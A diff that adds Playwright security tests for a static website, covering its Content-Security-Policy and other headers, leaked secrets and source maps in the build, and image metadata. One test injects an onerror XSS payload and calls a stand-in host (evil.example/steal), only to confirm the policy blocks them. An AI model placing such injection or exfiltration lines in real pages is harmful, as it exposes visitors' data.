@@ -1,0 +1,103 @@
+import { execFileSync } from "node:child_process";
+import { readdir, readFile } from "node:fs/promises";
+import path from "node:path";
+import { testSites } from "../scripts/test-sites.mjs";
+import { expect, needsLocalServer, open, test } from "./test";
+
+test("the policy names the hosts that are needed, and nobody else", async ({ request }) => {
+  const headers = (await request.get("/")).headers();
+  const policy = Object.fromEntries(
+    (headers["content-security-policy"] ?? "").split(/;\s*/).map((directive) => {
+      const [name, ...values] = directive.split(" ");
+      return [name, values];
+    }),
+  );
+  expect(policy).toEqual({
+    "default-src": ["'none'"],
+    "script-src": ["'self'"],
+    "style-src": ["'self'"],
+    "font-src": ["'self'"],
+    "img-src": ["'self'", "https://images.unsplash.com"],
+    "connect-src": ["'self'", "https://api.emailjs.com", "https://api.web3forms.com"],
+    "manifest-src": ["'self'"],
+    "base-uri": ["'none'"],
+    "form-action": ["'self'"],
+    "frame-ancestors": ["'none'"],
+  });
+  expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
+  expect(headers["x-content-type-options"]).toBe("nosniff");
+  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
+  expect(headers["permissions-policy"]).toContain("camera=()");
+  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
+});
+
+test.describe("what somebody smuggles into the page", () => {
+  test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
+
+  test("does not run: no inline script, no event attribute, no style, no stranger's script", async ({
+    page,
+  }) => {
+    await open(page);
+    await page.evaluate(async () => {
+      const seen: string[] = [];
+      Object.assign(window, { seen });
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+        seen.push(effectiveDirective);
+      });
+      const inline = document.createElement("script");
+      inline.textContent = "window.hacked = 'inline'";
+      document.body.append(inline);
+      const holder = document.createElement("div");
+      holder.innerHTML = `<img src="/images/nothing-here.jpg" onerror="window.hacked = 'attribute'">`;
+      document.body.append(holder);
+      const stranger = document.createElement("script");
+      stranger.src = "https://evil.example/x.js";
+      const failed = new Promise((resolve) => stranger.addEventListener("error", resolve));
+      document.body.append(stranger);
+      await failed;
+      await fetch("https://evil.example/steal").catch(() => {});
+    });
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { seen: string[] }).seen))
+      .toEqual(expect.arrayContaining(["script-src-elem", "script-src-attr", "connect-src"]));
+    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+  });
+});
+
+test("the export holds no source map, no secret and no path of the machine it was built on", async () => {
+  needsLocalServer("the files are read from disk");
+  test.skip(test.info().project.name !== "desktop", "no browser is needed");
+  const { out } = testSites.plain;
+  const names = await readdir(out, { recursive: true });
+  expect(names.filter((name) => /\.map$|(^|\/)\.(env|git)/.test(name))).toEqual([]);
+  for (const name of names.filter((one) => /\.(html|js|css|txt|json|xml|webmanifest)$/.test(one))) {
+    const content = await readFile(path.join(out, name), "utf8");
+    expect(content, name).not.toContain("sourceMappingURL");
+    expect(content, name).not.toContain(process.cwd());
+  }
+});
+
+test("what is published carries no camera or location data", async () => {
+  needsLocalServer("the files are read from disk");
+  test.skip(test.info().project.name !== "desktop", "no browser is needed");
+  const { default: sharp } = await import("sharp");
+  const { out } = testSites.plain;
+  for (const folder of ["images", "photos"]) {
+    const names = await readdir(path.join(out, folder), { recursive: true });
+    for (const name of names.filter((one) => /\.(jpe?g|png|avif|webp)$/.test(one))) {
+      const { exif, xmp, iptc } = await sharp(path.join(out, folder, name)).metadata();
+      expect([exif, xmp, iptc], name).toEqual([undefined, undefined, undefined]);
+    }
+  }
+});
+
+test("an owner is told at the build what is still a stand-in, and the launch check holds him back", () => {
+  needsLocalServer("the check reads the build");
+  test.skip(test.info().project.name !== "desktop", "no browser is needed");
+  const check = () =>
+    execFileSync("node", ["scripts/launch.mjs", testSites.plain.out], {
+      encoding: "utf8",
+      stdio: "pipe",
+    });
+  expect(check).toThrow(/stand-in/);
+});
